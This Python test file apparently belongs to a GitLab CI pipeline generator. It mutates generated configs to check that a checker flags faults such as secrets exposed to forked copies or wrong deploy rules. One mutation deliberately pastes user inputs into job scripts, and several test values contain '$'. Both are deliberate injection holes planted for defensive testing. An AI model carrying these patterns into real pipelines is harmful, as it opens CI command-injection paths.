    for name in (file.header or {}).get("spec", {}).get("inputs") or {}:
        for variables in file.variables:
            for variable, said in list(variables.items()):
                if isinstance(said, dict) and f"inputs.{name} " in str(said["value"]):
                    yield dropping(variables, variable)
                    yield setting(said, "value", "x")
                    if name != "mlgen_event":  # its pattern lets no $ in
                        yield setting(said, "expand", True)


@edits
def an_input_pasted_into_a_script(file: File) -> Iterator[Edit]:
    for name in (file.header or {}).get("spec", {}).get("inputs") or {}:
        for script, number in commands(file):
            yield setting(script, number, f"{script[number]} $[[ inputs.{name} ]]")
            break


# ---- what damage is none


BRANCHES = (
    "main", "Main", "maintenance", "x-main", "trunk", "x/trunk", "release/1", "release/old", "release/1/2", "feature/a",
    "feature/a/b", "old", "a-$B",
)  # fmt: skip
TAGS = ("v1", "v1.0", "V1", "v1/2", "x-v1", "x", "a-$B")
FILES = ("src/a.py", "src/clean.py", "params.yaml", "docs/a.md", "README.md", "other")


def grid(pipeline: Pipeline) -> Iterator[tuple[dict[str, str | None], dict[str, set[str] | None]]]:
    """Events of every kind that GitLab knows, by their variables and what has changed."""
    home = pipeline.repository.partition("/")[2] or "org/project"
    for message in ("", "[extra] x"):
        for files in (None, *({name} for name in FILES)):
            changed = {"": files, "main": files}
            for branch in BRANCHES:
                for fork in ("true", "false"):
                    yield (
                        {**event("pull_request", home, branch=branch, fork=fork), "CI_COMMIT_MESSAGE": message},
                        changed,
                    )
                yield {**event("push", home, branch=branch), "CI_COMMIT_MESSAGE": message}, changed
    for branch in BRANCHES:
        for source in ("web", "api", "trigger", "pipeline", "schedule", *OTHERS):
            found = event("push", home, branch=branch) | {"CI_PIPELINE_SOURCE": source}
            for name in ("", "retrain", "refresh") if source != "schedule" else ("weekly", "hourly", "nightly", "x"):
                key = "CI_PIPELINE_SCHEDULE_DESCRIPTION" if source == "schedule" else "MLGEN_API_EVENT"
                for mode in ("fast", "full"):
                    yield {**found, key: name, "MLGEN_INPUT_MODE": mode}, {}
    for tag in TAGS:
        yield event("tag", home, tag=tag), {}
    yield event("push", "other/copy", branch="main"), {}


OTHERS = ("parent_pipeline", "chat", "external")


def harmless(before: str, after: str, pipeline: Pipeline) -> bool:
    """Whether only rules differ, and to the interpreter of the tests they let in the same jobs on every event."""
    one, other = File(before, pipeline).config, File(after, pipeline).config
    if _without_rules(one) != _without_rules(other) or "workflow" in one.keys() - other.keys():
        return False
    runs = zip(_runs(before, pipeline), grid(pipeline))
    return all(_made(one, found) == _made(other, jobs(other, v, changed)) for found, (v, changed) in runs)


_RUNS: dict[tuple[str, str], list[dict[str, str]]] = {}


def _runs(text: str, pipeline: Pipeline) -> list[dict[str, str]]:
    """The jobs of each event's pipeline."""
    key = (text, pipeline.repository)
    if key not in _RUNS:
        config = File(text, pipeline).config
        _RUNS[key] = [jobs(config, variables, changed) for variables, changed in grid(pipeline)]
    return _RUNS[key]


def _made(config: Data, found: dict[str, str]) -> dict[str, str]:
    """These jobs; none where one needs a job that is not among them: GitLab makes no such pipeline."""
    said = [need for name in found for need in config[name].get("needs", ())]
    needed = [need if isinstance(need, dict) else {"job": need} for need in said]
    return found if all(need["job"] in found or need.get("optional") for need in needed) else {}


def _without_rules(config: Data) -> Data:
    found = {
        name: {k: v for k, v in job.items() if k != "rules"} for name, job in config.items() if isinstance(job, dict)
    }
    workflow = [rule.get("auto_cancel") for rule in config.get("workflow", {}).get("rules", ())]
    return {**found, "workflow": config.get("workflow", {}).get("auto_cancel"), "cancels": workflow}


TABLE = table(KINDS)


@pytest.mark.parametrize("kind", TABLE)
def test_is_told(kind: str) -> None:
    found = list(tried("gitlab", TABLE[kind], harmless))
    assert found, "this kind applies nowhere"
    survivors = [each for each in found if each]
    assert not survivors, "\n\n".join(f"{s.project}:\n{_shown(s)}" for s in survivors)


def _shown(survivor: Survivor) -> str:
    """The lines in which the damaged text differs."""
    pipeline, texts = rendered(ROOT / survivor.project, targets.get("gitlab"))
    before = File(next(iter(texts.values())), pipeline).dump().splitlines()
    after = File(survivor.text, pipeline).dump().splitlines()
    found = difflib.unified_diff(before, after, lineterm="", n=0)
    return "\n".join(line for line in found if not line.startswith(("---", "+++")))


def test_enough_kinds() -> None:
    assert len(TABLE) >= 30


def test_deployments_in_copies_are_told(tmp_path: Path) -> None:
    jobs = {"staging": {"run": "./deploy"}}
    spec = {"project": {"name": "x", "repository": "gitlab.com/org/x"}, "stages": {"deploy": jobs}}
    pipeline, text = emit(tmp_path, spec)
    target = targets.get("gitlab")
    assert faults(target, {"f": text}, pipeline) == []
    other = text.replace('$CI_PROJECT_PATH != "org/x"', '$CI_PROJECT_PATH == "org/other"')
    assert {fault.aspect for fault in faults(target, {"f": other}, pipeline)} == {"copies"}


def test_a_job_that_only_starts_a_pipeline_may_be_given_a_secret(tmp_path: Path) -> None:
    fit = {"run": "./fit", "secrets": ["TOKEN"], "when": {"message": "[fit]"}}
    spec = {"triggers": {"pull_request": {}}, "secrets": {"TOKEN": {}}, "stages": {"train": {"fit": fit}}}
    pipeline, text = emit(tmp_path, spec)
    target = targets.get("gitlab")
    assert "\nmlgen:\n" in text and faults(target, {"f": text}, pipeline) == []
    for old, new in (('- echo "This pipeline has started."', "- ./fit"), ("    GIT_STRATEGY: none\n", "    A: b\n")):
        assert old in text
        found = faults(target, {"f": text.replace(old, new)}, pipeline)
        assert any("sees TOKEN" in fault.message for fault in found), new


def test_a_job_may_tell_others_that_it_ran(tmp_path: Path) -> None:
    jobs = {
        "fit": {"run": "./fit"},
        "good": {"run": "./good", "needs": ["fit"], "when": {"result": "success"}},
        "use": {"run": "./use", "needs": ["good"]},
    }
    pipeline, text = emit(tmp_path, {"stages": {"train": jobs}})
    target = targets.get("gitlab")
    assert "touch .mlgen/ran/good" in text and faults(target, {"f": text}, pipeline) == []
    for line in ("    - mkdir -p .mlgen/ran && touch .mlgen/ran/good\n", '    - "[ -e .mlgen/ran/good ] || exit 0"'):
        assert line in text, text
        assert faults(target, {"f": text.replace(line, "")}, pipeline), line


def test_native_jobs_are_found_by_name(tmp_path: Path) -> None:
    own = {"native": {"gitlab": {"trigger": {"project": "org/other"}}}, "when": {"branch": "main"}}
    pipeline, text = emit(tmp_path, {"stages": {"train": {"fit": {"run": "./fit"}}, "deploy": {"next": own}}})
    target = targets.get("gitlab")
    assert faults(target, {"f": text}, pipeline) == []
    other = text.replace('$CI_COMMIT_BRANCH == "main"', '$CI_COMMIT_BRANCH != "main"')
    assert {fault.job for fault in faults(target, {"f": other}, pipeline)} == {"deploy.next"}


def test_legs_that_are_not_compared_are_told(tmp_path: Path) -> None:
    jobs = {
        "sweep": {"run": "./sweep", "matrix": {"n": [1, 2]}, "outs": ["out/"]},
        "join": {"run": "./join", "deps": ["out/"]},
    }
    pipeline, text = emit(tmp_path, {"stages": {"train": jobs}})
    target = targets.get("gitlab")
    assert faults(target, {"f": text}, pipeline) == []
    for line in ("legs --job train.sweep", "merge --job train.sweep"):
        assert line in text
        other = "\n".join(each for each in text.split("\n") if line not in each)
        assert {fault.aspect for fault in faults(target, {"f": other}, pipeline)} == {"legs"}
